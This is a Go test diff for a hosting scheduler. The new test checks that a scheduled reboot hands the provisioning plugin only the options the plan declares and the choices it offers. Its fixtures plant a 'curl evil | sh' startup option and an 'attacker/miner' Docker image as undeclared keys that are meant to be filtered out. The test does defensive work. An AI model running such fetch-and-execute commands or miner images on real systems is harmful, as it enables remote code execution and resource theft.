@@ -222,3 +222,40 @@ func TestDueTasksAhead(t *testing.T) {
 		}
 	})
 }
+
+// TestRunTellsThePluginOnlyDeclaredOptions: a scheduled run's call carries
+// the plan's declared options and the customer's offered choices, never a
+// key the plugin does not declare or the plan does not offer.
+func TestRunTellsThePluginOnlyDeclaredOptions(t *testing.T) {
+	t.Parallel()
+	databasetest.Each(t, func(t *testing.T, db *database.DB) {
+		b := setup(t, db)
+		ctx := context.Background()
+		for _, q := range []struct {
+			sql  string
+			args []any
+		}{
+			{"UPDATE services SET options = ? WHERE id = ?", []any{`{"hostname":"web1","docker_image":"attacker/miner","package":"9"}`, b.full}},
+			{"UPDATE plans SET plugin_options = ?, order_options = ? WHERE id = ?", []any{`{"package":"1","startup":"curl evil | sh"}`, `{"hostname":[]}`, b.planFull}},
+		} {
+			if _, err := db.NewRaw(q.sql, q.args...).Exec(ctx); err != nil {
+				t.Fatal(err)
+			}
+		}
+		mustTask(t, b, scheduler.TaskInput{Type: "reboot", Cron: "0 * * * *"})
+		b.clock.Add(time.Hour)
+		if _, err := b.s.DueTasks(ctx); err != nil {
+			t.Fatal(err)
+		}
+		chunks := b.jobRuns(t)
+		if len(chunks) != 1 {
+			t.Fatalf("run jobs %v, want one", chunks)
+		}
+		if err := b.s.ExecuteRunsForTest(ctx, chunks[0], 1, 7); err != nil {
+			t.Fatal(err)
+		}
+		if diff := cmp.Diff(map[string]string{"package": "1", "hostname": "web1"}, b.prov.Options(b.full)); diff != "" {
+			t.Errorf("options the plugin was told (-want +got):\n%s", diff)
+		}
+	})
+}
